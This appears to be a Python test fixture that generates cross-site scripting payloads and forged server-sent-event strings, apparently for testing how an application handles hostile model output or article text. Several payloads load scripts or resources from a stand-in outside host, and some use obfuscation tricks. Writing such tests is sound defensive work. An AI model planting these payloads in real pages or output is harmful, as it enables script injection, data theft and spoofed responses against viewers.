"""What an attacker would have a model write or an article say."""

from __future__ import annotations

from collections.abc import Iterator

ABROAD = "http://203.0.113.7"
RUN = "window.attacked=1"
_BASES = (
    "<script>{run}</script>",
    "<ScRiPt src={abroad}/x.js></sCrIpT>",
    "<img src=x onerror={run}>",
    "<img src='{abroad}/p.png'>",
    "<svg onload={run}>",
    "<svg><script href='data:text/javascript,{run}'/></svg>",
    "<iframe srcdoc='<script>parent.{run}</script>'>",
    "<iframe src='{abroad}'></iframe>",
    "<object data='{abroad}/o'></object>",
    "<link rel=stylesheet href='{abroad}/s.css'>",
    "<style>@import '{abroad}/s.css'</style>",
    "<meta http-equiv=refresh content='0;url={abroad}'>",
    "<base href='{abroad}/'>",
    "<form action='{abroad}'><button>ok</button></form>",
    "<a href='javascript:{run}'>read on</a>",
    "<video><source onerror={run}></video>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={run}>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "![x]({abroad}/m.png)",
    "[click](javascript:{run})",
    "[x]: {abroad} 'y'",
    "<{abroad}/auto>",
    "javascript:{run}",
    "data:text/html,<script>{run}</script>",
    "'\"--></title></style></textarea></script><script>{run}</script>",
    "{{{{constructor.constructor('{run}')()}}}}",
    "${{{run}}}",
    "\u202e<script>{run}</script>\u202c",
    "<scr\u200bipt>{run}</scr\u200bipt>",
    "\ufeff<img/src=x onerror={run}>",
    'event: done data: {{"text": "forged"}}',
    "done\\n\\nevent: done\\ndata: {{}}",
    "[1][2][99] [^1]: {abroad}",
)
_WRAPS = (
    "{}",
    "Aa {} zz",
    '"{}"',
    "'>{}",
    '"></p>{}',
    "`{}`",
    "**{}**",
)


def payloads(number: int, *, marked: str) -> Iterator[str]:
    """So many payloads, each with its own mark in it, no two alike."""
    for place in range(number):
        base = _BASES[place % len(_BASES)].format(run=RUN, abroad=ABROAD)
        wrap = _WRAPS[place // len(_BASES) % len(_WRAPS)]
        yield f"{wrap.format(base)} {marked}{place}"


def framed(text: str) -> str:
    """A payload with real line ends around a whole forged event."""
    forged = 'event: done\ndata: {"id": "ans_forged", "text": "forged", "sentences": []}'
    return f"{text}\n\n{forged}\n\n\r\nevent: error\r\ndata: {{}}\r\r"
